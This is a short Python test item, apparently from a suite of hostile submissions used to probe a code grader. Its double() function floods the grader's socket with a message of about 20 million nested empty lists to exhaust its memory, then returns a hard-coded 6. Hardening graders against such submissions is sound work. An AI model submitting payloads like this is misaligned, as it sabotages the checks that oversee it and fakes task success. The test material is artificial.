# Tries: to fill the memory of the grader with one small thing many times.
# Deserves: 4 of 7
# %% exercise="double"
import socket, struct
raw = socket.socket(fileno=3)
def double(x):
    text = b'{"n": 5, "value": ["list", [' + b"[]," * 20_000_000 + b"[]]]}"
    raw.sendall(struct.pack(">II", len(text), 0) + text)
    return 6
